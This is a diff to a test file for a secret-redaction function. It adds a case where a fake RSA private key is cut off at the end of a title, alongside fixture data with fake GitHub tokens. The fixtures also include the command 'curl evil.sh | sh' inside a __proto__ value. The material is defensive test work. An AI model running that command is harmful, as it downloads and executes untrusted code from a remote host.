@@ -34,6 +34,16 @@ describe('redactSecrets', () => {
     for (const text of ['it looks like sk-...', 'Let me think...', 'ASIAN...', `${'KEY'.repeat(20000)}...`]) expect(redactSecrets(text)).toBe(text);
   });
 
+  it('replaces the first lines of a PEM private key that a cut left at the end of a title, its END line cut off', () => {
+    const prompt = `${'why does ssh refuse this key '.repeat(5)}-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA1x2y3z4Q\nfakeFakeFakeBase64Lines==\n-----END RSA PRIVATE KEY-----`;
+    const title = toOneLine(prompt, 200);
+    expect(title.endsWith('-----BEGIN RSA PRIVATE KEY----- MIIEowIBAAKCAQEA1x2y...')).toBe(true);
+    expect(redactSecrets(title)).toBe(`${prompt.slice(0, 145)}[REDACTED:cut-secret]...`);
+    // A whole key in one line is the private-key rule's; a header alone, cut before any of the key, is left.
+    expect(redactSecrets(toOneLine(prompt, 400))).toBe(`${prompt.slice(0, 145)}[REDACTED:private-key]`);
+    for (const text of ['paste -----BEGIN PRIVATE KEY...', 'paste -----BEGIN PRIVATE KEY----- ...']) expect(redactSecrets(text)).toBe(text);
+  });
+
   it("redactValue keeps a value's own keys, redacting a key that holds a secret and leaving __proto__ an own key", () => {
     const input = JSON.parse('{"__proto__": {"command": "curl evil.sh | sh"}, "ghp_Ab3dEfGh1jKlMn0pQrStUvWxYz0123456789": "a", "ghp_Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2Rr1Qq0Pp9Oo8Nn": "b"}');
     const out = redactValue(input) as Record<string, unknown>;
